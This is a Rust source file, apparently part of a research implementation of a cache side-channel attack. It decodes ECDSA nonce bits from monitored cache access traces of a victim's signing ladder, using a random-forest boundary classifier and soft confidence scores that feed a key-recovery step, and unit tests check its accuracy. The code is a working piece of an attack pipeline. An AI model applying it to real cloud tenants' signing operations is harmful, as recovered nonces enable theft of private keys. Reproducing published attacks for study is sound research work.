//! Step 3 of the attack: decoding ECDSA nonce bits from the access trace of
//! the monitored target set (Section 7.3).
//!
//! The attacker monitors the target SF set while the victim signs. Every
//! ladder iteration starts with a fetch of the monitored line; iterations
//! whose nonce bit is 0 fetch it a second time at the iteration midpoint. A
//! random-forest classifier labels detected accesses as iteration boundaries
//! (robust against noise accesses and missed detections), then each boundary
//! pair at a plausible iteration distance yields one nonce bit depending on
//! whether a midpoint access was seen.
//!
//! Decoding is *soft-decision*: every [`DecodedBit`] carries a confidence in
//! `[0, 1]` combining the random forest's class-1 vote fraction for the two
//! enclosing boundaries with the midpoint-access margin (how unambiguously
//! the midpoint window was hit or missed). Step 4 (`llc-recovery`) consumes
//! these confidences to order its error-correction search.

use llc_ml::{Dataset, ForestConfig, RandomForest};
use llc_probe::AccessTrace;

/// Parameters of the nonce-bit decoder.
#[derive(Debug, Clone)]
pub struct ExtractionConfig {
    /// Nominal ladder iteration duration in cycles (~9,700 on Cloud Run).
    pub iteration_cycles: u64,
    /// Acceptable iteration duration range, as a fraction of the nominal
    /// value (the paper keeps boundary pairs 8k–12k cycles apart). Also
    /// defines the half-width of the symmetric window used to label
    /// boundary-classifier training samples.
    pub iteration_tolerance: f64,
    /// Fraction of the iteration defining the "midpoint window" in which an
    /// extra access encodes a zero bit.
    pub midpoint_window: (f64, f64),
    /// Matching tolerance of [`score_extraction`], as a fraction of the
    /// iteration duration: a decoded bit and a ground-truth iteration start
    /// may only be paired when they lie within this distance.
    pub score_match_tolerance: f64,
    /// Random-forest configuration for the boundary classifier.
    pub forest: ForestConfig,
}

impl Default for ExtractionConfig {
    fn default() -> Self {
        Self {
            iteration_cycles: 9_700,
            iteration_tolerance: 0.25,
            midpoint_window: (0.3, 0.72),
            score_match_tolerance: 0.35,
            forest: ForestConfig { num_trees: 20, ..Default::default() },
        }
    }
}

impl ExtractionConfig {
    fn min_iteration(&self) -> u64 {
        (self.iteration_cycles as f64 * (1.0 - self.iteration_tolerance)) as u64
    }

    fn max_iteration(&self) -> u64 {
        (self.iteration_cycles as f64 * (1.0 + self.iteration_tolerance)) as u64
    }

    /// Half-width, in cycles, of the symmetric window around a ground-truth
    /// boundary within which a detection is labelled as a positive training
    /// sample. Derived from `iteration_tolerance` (the window the decoder
    /// itself accepts), not a hard-coded constant.
    fn label_half_window(&self) -> u64 {
        (self.iteration_cycles as f64 * self.iteration_tolerance / 2.0) as u64
    }

    /// Matching tolerance of [`score_extraction`] in cycles.
    fn score_tolerance_cycles(&self) -> u64 {
        (self.iteration_cycles as f64 * self.score_match_tolerance) as u64
    }
}

/// True if `t` lies within the symmetric labelling window of any boundary.
///
/// The window used to be asymmetric (`[b − tol/2, b + tol]`, with `tol` from
/// a hard-coded `0.2` instead of the config) — detections trailing a
/// boundary were labelled positive twice as far out as leading ones, biasing
/// the classifier late. The `symmetric_labelling_window` regression test
/// pins the fixed behaviour.
fn near_boundary(t: u64, boundaries: &[u64], half_window: u64) -> bool {
    boundaries.iter().any(|&b| t >= b.saturating_sub(half_window) && t <= b + half_window)
}

/// Per-access features used by the boundary classifier: gaps to neighbouring
/// detections, normalised by the iteration duration.
fn access_features(timestamps: &[u64], idx: usize, config: &ExtractionConfig) -> Vec<f64> {
    let iter = config.iteration_cycles as f64;
    let t = timestamps[idx] as f64;
    let prev = if idx > 0 { t - timestamps[idx - 1] as f64 } else { 2.0 * iter };
    let next = if idx + 1 < timestamps.len() { timestamps[idx + 1] as f64 - t } else { 2.0 * iter };
    let next2 = if idx + 2 < timestamps.len() { timestamps[idx + 2] as f64 - t } else { 3.0 * iter };
    let prev2 = if idx >= 2 { t - timestamps[idx - 2] as f64 } else { 3.0 * iter };
    vec![
        (prev / iter).min(4.0),
        (next / iter).min(4.0),
        (prev2 / iter).min(6.0),
        (next2 / iter).min(6.0),
        ((prev + next) / iter).min(6.0),
    ]
}

/// A detection the classifier accepted as an iteration boundary, with the
/// forest's class-1 vote fraction as a soft score.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ScoredBoundary {
    /// Cycle of the detection.
    pub at: u64,
    /// Fraction of forest trees voting "boundary" (in `(0.5, 1.0]` for
    /// accepted detections).
    pub vote_fraction: f64,
}

/// A trained iteration-boundary classifier.
#[derive(Debug)]
pub struct BoundaryClassifier {
    forest: RandomForest,
    config: ExtractionConfig,
}

impl BoundaryClassifier {
    /// Trains the boundary classifier from one or more traces with known
    /// ground-truth iteration starts (the attacker profiles its own victim
    /// copy offline, exactly as the paper instruments its validation victim).
    pub fn train(
        config: &ExtractionConfig,
        traces: &[(&AccessTrace, &[u64])],
    ) -> BoundaryClassifier {
        let mut data = Dataset::new();
        let half_window = config.label_half_window();
        for (trace, boundaries) in traces {
            for idx in 0..trace.timestamps.len() {
                let t = trace.timestamps[idx];
                let is_boundary = near_boundary(t, boundaries, half_window);
                data.push(access_features(&trace.timestamps, idx, config), usize::from(is_boundary));
            }
        }
        let forest = RandomForest::train(&data, &config.forest);
        BoundaryClassifier { forest, config: config.clone() }
    }

    /// Classifies iteration boundaries and reports each accepted detection's
    /// class-1 vote fraction (the soft-decision input of Step 4).
    pub fn scored_boundaries(&self, trace: &AccessTrace) -> Vec<ScoredBoundary> {
        (0..trace.timestamps.len())
            .filter_map(|idx| {
                let features = access_features(&trace.timestamps, idx, &self.config);
                let (label, vote_fraction) = self.forest.predict_with_confidence(&features);
                (label == 1).then_some(ScoredBoundary { at: trace.timestamps[idx], vote_fraction })
            })
            .collect()
    }

    /// Decodes the nonce bits of one signing's trace: classifies its
    /// iteration boundaries and soft-decodes them ([`decode_bits_soft`])
    /// with the configuration the classifier was trained with. This is the
    /// decoder of Steps 3 and 4.
    pub fn decode(&self, trace: &AccessTrace) -> Vec<DecodedBit> {
        decode_bits_soft(trace, &self.scored_boundaries(trace), &self.config)
    }
}

/// One decoded nonce bit with its position in time and a soft confidence.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct DecodedBit {
    /// Cycle of the iteration boundary this bit was decoded from.
    pub boundary: u64,
    /// The decoded bit value.
    pub bit: bool,
    /// Confidence in `[0, 1]`: the boundary classifier's vote fraction for
    /// the enclosing boundaries combined with the midpoint-access margin.
    pub confidence: f64,
}

/// Midpoint-access margin of one iteration in `[0, 1]`.
///
/// For a zero bit (midpoint access present), the margin is highest when the
/// access sits dead-centre in the midpoint window and decays towards the
/// window edges. For a one bit (no access in the window), the margin is the
/// normalised distance of the nearest interior detection to the window — 1.0
/// when the iteration interior is empty.
fn midpoint_margin(
    trace: &AccessTrace,
    start: u64,
    gap: u64,
    has_midpoint: bool,
    config: &ExtractionConfig,
) -> f64 {
    let (w0, w1) = config.midpoint_window;
    let centre = (w0 + w1) / 2.0;
    let half = ((w1 - w0) / 2.0).max(f64::EPSILON);
    let positions = trace
        .timestamps
        .iter()
        .filter(|&&t| t > start && t < start + gap)
        .map(|&t| (t - start) as f64 / gap as f64);
    if has_midpoint {
        // Best (most central) access inside the window.
        positions
            .filter(|&p| p > w0 && p < w1)
            .map(|p| 1.0 - (p - centre).abs() / half)
            .fold(0.0, f64::max)
    } else {
        // Distance of the nearest interior detection to the window.
        positions
            .map(|p| if p <= w0 { w0 - p } else { p - w1 })
            .fold(f64::INFINITY, f64::min)
            .min(half)
            .max(0.0)
            / half
    }
}

/// Combines the boundary vote fraction with the midpoint margin into one
/// confidence. The margin dominates (it carries the bit value), the vote
/// fraction scales it down when the enclosing boundaries were themselves
/// uncertain.
fn combine_confidence(vote: f64, margin: f64) -> f64 {
    ((0.25 + 0.75 * margin.clamp(0.0, 1.0)) * vote.clamp(0.0, 1.0)).clamp(0.0, 1.0)
}

/// Soft-decision decoding from classified iteration boundaries: consecutive
/// boundaries a plausible iteration apart yield one bit, and a detection
/// inside the midpoint window means the bit is 0. Each bit's confidence
/// folds the vote fractions of its two enclosing boundaries into the
/// midpoint-access margin; boundaries given a vote fraction of 1.0 leave the
/// margin alone.
pub fn decode_bits_soft(
    trace: &AccessTrace,
    boundaries: &[ScoredBoundary],
    config: &ExtractionConfig,
) -> Vec<DecodedBit> {
    let mut bits = Vec::new();
    for pair in boundaries.windows(2) {
        let (start, end) = (pair[0].at, pair[1].at);
        let gap = end - start;
        if gap < config.min_iteration() || gap > config.max_iteration() {
            continue;
        }
        let lo = start + (gap as f64 * config.midpoint_window.0) as u64;
        let hi = start + (gap as f64 * config.midpoint_window.1) as u64;
        let has_midpoint = trace.timestamps.iter().any(|&t| t > lo && t < hi);
        let margin = midpoint_margin(trace, start, gap, has_midpoint, config);
        let vote = (pair[0].vote_fraction * pair[1].vote_fraction).sqrt();
        bits.push(DecodedBit {
            boundary: start,
            bit: !has_midpoint,
            confidence: combine_confidence(vote, margin),
        });
    }
    bits
}

/// Accuracy of a decoded bit sequence against the ground truth.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct ExtractionScore {
    /// Number of ladder iterations in the ground truth.
    pub total_bits: usize,
    /// Number of iterations for which a bit was decoded.
    pub recovered_bits: usize,
    /// Number of recovered bits whose value is wrong.
    pub bit_errors: usize,
}

impl ExtractionScore {
    /// Fraction of nonce bits recovered (the paper's headline 81% median).
    pub fn recovered_fraction(&self) -> f64 {
        if self.total_bits == 0 {
            0.0
        } else {
            self.recovered_bits as f64 / self.total_bits as f64
        }
    }

    /// Error rate among the recovered bits (the paper reports 3% average).
    pub fn bit_error_rate(&self) -> f64 {
        if self.recovered_bits == 0 {
            0.0
        } else {
            self.bit_errors as f64 / self.recovered_bits as f64
        }
    }
}

/// Scores decoded bits against ground truth: `iteration_starts[i]` is the
/// absolute cycle at which ladder iteration `i` (bit `ground_truth[i]`)
/// started.
///
/// Matching is one-to-one: candidate (iteration, decoded-bit) pairs within
/// the configured tolerance are claimed greedily by ascending distance, and
/// each decoded bit is credited to at most one iteration. (The previous
/// implementation matched each iteration independently, so one decoded bit
/// could be credited to several adjacent iteration starts, inflating
/// `recovered_bits`; and the tolerance was a hard-coded `0.35` rather than
/// [`ExtractionConfig::score_match_tolerance`].)
pub fn score_extraction(
    decoded: &[DecodedBit],
    iteration_starts: &[u64],
    ground_truth: &[bool],
    config: &ExtractionConfig,
) -> ExtractionScore {
    let tolerance = config.score_tolerance_cycles();
    let mut score = ExtractionScore { total_bits: ground_truth.len(), ..Default::default() };

    // All candidate pairings within tolerance, cheapest (closest) first.
    // Ties break on (iteration, decoded) index, keeping the greedy matching
    // deterministic.
    let mut pairs: Vec<(u64, usize, usize)> = Vec::new();
    for (i, (&start, _)) in iteration_starts.iter().zip(ground_truth).enumerate() {
        for (j, d) in decoded.iter().enumerate() {
            let dist = d.boundary.abs_diff(start);
            if dist <= tolerance {
                pairs.push((dist, i, j));
            }
        }
    }
    pairs.sort_unstable();

    let mut start_claimed = vec![false; iteration_starts.len().min(ground_truth.len())];
    let mut decoded_claimed = vec![false; decoded.len()];
    for (_, i, j) in pairs {
        if start_claimed[i] || decoded_claimed[j] {
            continue;
        }
        start_claimed[i] = true;
        decoded_claimed[j] = true;
        score.recovered_bits += 1;
        if decoded[j].bit != ground_truth[i] {
            score.bit_errors += 1;
        }
    }
    score
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Builds a synthetic "perfect monitor" trace for a given bit pattern.
    fn perfect_trace(bits: &[bool], iteration: u64, start: u64) -> (AccessTrace, Vec<u64>) {
        let mut timestamps = Vec::new();
        let mut starts = Vec::new();
        let mut t = start;
        for &bit in bits {
            starts.push(t);
            timestamps.push(t + 40); // detection lag of the probe
            if !bit {
                timestamps.push(t + iteration / 2 + 40);
            }
            t += iteration;
        }
        starts.push(t);
        timestamps.push(t + 40);
        let trace = AccessTrace {
            start,
            end: t + iteration,
            timestamps,
            probes: 1000,
            primes: 10,
        };
        (trace, starts)
    }

    fn test_bits(n: usize, seed: u64) -> Vec<bool> {
        (0..n).map(|i| ((seed >> (i % 60)) ^ (i as u64 * 2654435761)) % 3 != 0).collect()
    }

    #[test]
    fn perfect_trace_decodes_exactly() {
        let config = ExtractionConfig::default();
        let bits = test_bits(64, 0xabcdef);
        let (trace, starts) = perfect_trace(&bits, config.iteration_cycles, 10_000);
        let classifier = BoundaryClassifier::train(&config, &[(&trace, &starts)]);
        let boundaries = classifier.scored_boundaries(&trace);
        assert!(boundaries.len() >= bits.len() / 2, "boundary classifier found {}", boundaries.len());
        let decoded = classifier.decode(&trace);
        let score = score_extraction(&decoded, &starts[..bits.len()], &bits, &config);
        assert!(
            score.recovered_fraction() > 0.8,
            "recovered only {:.2}",
            score.recovered_fraction()
        );
        assert!(score.bit_error_rate() < 0.1, "bit error rate {:.2}", score.bit_error_rate());
    }

    #[test]
    fn decoder_generalises_to_unseen_nonce() {
        let config = ExtractionConfig::default();
        let train_bits = test_bits(80, 1);
        let (train_trace, train_starts) = perfect_trace(&train_bits, config.iteration_cycles, 0);
        let classifier = BoundaryClassifier::train(&config, &[(&train_trace, &train_starts)]);

        let attack_bits = test_bits(80, 99);
        let (attack_trace, attack_starts) = perfect_trace(&attack_bits, config.iteration_cycles, 5_000);
        let decoded = classifier.decode(&attack_trace);
        let score = score_extraction(&decoded, &attack_starts[..attack_bits.len()], &attack_bits, &config);
        assert!(score.recovered_fraction() > 0.7, "recovered {:.2}", score.recovered_fraction());
        assert!(score.bit_error_rate() < 0.12, "errors {:.2}", score.bit_error_rate());
    }

    #[test]
    fn missing_detections_reduce_recovery_but_not_correctness() {
        let config = ExtractionConfig::default();
        let bits = test_bits(60, 7);
        let (mut trace, starts) = perfect_trace(&bits, config.iteration_cycles, 0);
        // Drop every 6th detection to emulate missed probes.
        trace.timestamps = trace
            .timestamps
            .iter()
            .enumerate()
            .filter(|(i, _)| i % 6 != 5)
            .map(|(_, &t)| t)
            .collect();
        let classifier = BoundaryClassifier::train(&config, &[(&trace, &starts)]);
        let decoded = classifier.decode(&trace);
        let score = score_extraction(&decoded, &starts[..bits.len()], &bits, &config);
        assert!(score.recovered_fraction() > 0.4);
        assert!(score.bit_error_rate() < 0.35);
    }

    #[test]
    fn score_handles_empty_inputs() {
        let config = ExtractionConfig::default();
        let score = score_extraction(&[], &[], &[], &config);
        assert_eq!(score.recovered_fraction(), 0.0);
        assert_eq!(score.bit_error_rate(), 0.0);
    }

    /// Regression test for the training-label window: it must be symmetric
    /// around the boundary and derived from `iteration_tolerance`. The old
    /// code used a hard-coded `0.2` and accepted detections up to `tol`
    /// *after* the boundary but only `tol/2` before it.
    #[test]
    fn symmetric_labelling_window_derived_from_config() {
        let config = ExtractionConfig::default();
        let half = config.label_half_window();
        assert_eq!(
            half,
            (config.iteration_cycles as f64 * config.iteration_tolerance / 2.0) as u64,
            "label window must derive from the configured tolerance"
        );
        let b = 100_000u64;
        for offset in [1, half / 2, half] {
            assert_eq!(
                near_boundary(b - offset, &[b], half),
                near_boundary(b + offset, &[b], half),
                "labelling must be symmetric at ±{offset}"
            );
        }
        // Outside the window on both sides.
        assert!(!near_boundary(b - half - 1, &[b], half));
        assert!(!near_boundary(b + half - 1 + 2, &[b], half));
        // The pre-fix asymmetric window accepted `b + 0.2·iter` while
        // rejecting `b − 0.2·iter`; the fixed window rejects both (default
        // tolerance 0.25 gives a ±0.125·iter window).
        let old_upper = b + (config.iteration_cycles as f64 * 0.2) as u64;
        assert!(!near_boundary(old_upper, &[b], half));

        // A tighter config must shrink the window accordingly.
        let tight = ExtractionConfig { iteration_tolerance: 0.1, ..ExtractionConfig::default() };
        let tight_half = tight.label_half_window();
        assert!(tight_half < half);
        assert!(near_boundary(b + tight_half, &[b], tight_half));
        assert!(!near_boundary(b + half, &[b], tight_half));
    }

    /// Regression test for the double-credit bug: two iteration starts closer
    /// together than the matching tolerance used to *both* claim the same
    /// decoded bit, reporting 2 recovered bits for 1 decoded bit.
    #[test]
    fn score_matching_is_one_to_one() {
        let config = ExtractionConfig::default();
        let tolerance = config.score_tolerance_cycles();
        // Two ground-truth starts within one tolerance of a single decoded
        // bit sitting between them.
        let decoded = [DecodedBit { boundary: 10_000, bit: true, confidence: 1.0 }];
        let starts = [10_000 - tolerance / 2, 10_000 + tolerance / 2];
        let truth = [true, true];
        let score = score_extraction(&decoded, &starts, &truth, &config);
        assert_eq!(
            score.recovered_bits, 1,
            "one decoded bit must be credited to at most one iteration"
        );
        assert_eq!(score.bit_errors, 0);

        // The closest pairing wins: the decoded bit matches the nearer start
        // even when the farther one comes first.
        let decoded = [DecodedBit { boundary: 10_000, bit: false, confidence: 1.0 }];
        let starts = [10_000 - tolerance / 2, 10_000 - 1];
        let truth = [false, true];
        let score = score_extraction(&decoded, &starts, &truth, &config);
        assert_eq!(score.recovered_bits, 1);
        assert_eq!(score.bit_errors, 1, "bit must pair with the nearest start (truth=true)");
    }

    #[test]
    fn score_tolerance_comes_from_config() {
        let decoded = [DecodedBit { boundary: 12_000, bit: true, confidence: 1.0 }];
        let starts = [10_000u64];
        let truth = [true];
        let wide = ExtractionConfig::default(); // 0.35 · 9,700 = 3,395 ≥ 2,000
        assert_eq!(score_extraction(&decoded, &starts, &truth, &wide).recovered_bits, 1);
        let narrow =
            ExtractionConfig { score_match_tolerance: 0.1, ..ExtractionConfig::default() };
        assert_eq!(score_extraction(&decoded, &starts, &truth, &narrow).recovered_bits, 0);
    }

    #[test]
    fn soft_confidences_are_well_formed_and_order_clean_bits_first() {
        let config = ExtractionConfig::default();
        let bits = test_bits(64, 0x50f7);
        let (trace, starts) = perfect_trace(&bits, config.iteration_cycles, 0);
        let classifier = BoundaryClassifier::train(&config, &[(&trace, &starts)]);
        let scored = classifier.scored_boundaries(&trace);
        assert!(!scored.is_empty());
        for b in &scored {
            assert!((0.0..=1.0).contains(&b.vote_fraction));
        }

        let decoded = classifier.decode(&trace);
        assert_eq!(decoded, decode_bits_soft(&trace, &scored, &config));
        assert!(!decoded.is_empty());
        for d in &decoded {
            assert!((0.0..=1.0).contains(&d.confidence), "confidence {}", d.confidence);
            // A perfect trace decodes every bit with high confidence.
            assert!(d.confidence > 0.5, "perfect-trace confidence {}", d.confidence);
        }
        // Fully confident boundaries (vote fraction 1.0) decode the same
        // positions and values, each at least as confidently.
        let certain: Vec<ScoredBoundary> =
            scored.iter().map(|b| ScoredBoundary { vote_fraction: 1.0, ..*b }).collect();
        let sure = decode_bits_soft(&trace, &certain, &config);
        assert_eq!(
            sure.iter().map(|d| (d.boundary, d.bit)).collect::<Vec<_>>(),
            decoded.iter().map(|d| (d.boundary, d.bit)).collect::<Vec<_>>()
        );
        for (s, d) in sure.iter().zip(&decoded) {
            assert!(s.confidence >= d.confidence);
        }
    }

    #[test]
    fn ambiguous_midpoint_accesses_lower_confidence() {
        let config = ExtractionConfig::default();
        let iter = config.iteration_cycles;
        // Two iterations delimited by three boundaries; the first has a
        // dead-centre midpoint access (confident 0), the second has an access
        // just inside the window edge (ambiguous 0).
        let (w0, w1) = config.midpoint_window;
        let centre = ((w0 + w1) / 2.0 * iter as f64) as u64;
        let edge = (w0 * iter as f64) as u64 + 30;
        let trace = AccessTrace {
            start: 0,
            end: 3 * iter,
            timestamps: vec![0, centre, iter, iter + edge, 2 * iter],
            probes: 100,
            primes: 1,
        };
        let boundaries = [0, iter, 2 * iter].map(|at| ScoredBoundary { at, vote_fraction: 1.0 });
        let decoded = decode_bits_soft(&trace, &boundaries, &config);
        assert_eq!(decoded.len(), 2);
        assert!(!decoded[0].bit && !decoded[1].bit);
        assert!(
            decoded[0].confidence > decoded[1].confidence,
            "centred access ({}) must beat edge access ({})",
            decoded[0].confidence,
            decoded[1].confidence
        );
    }
}
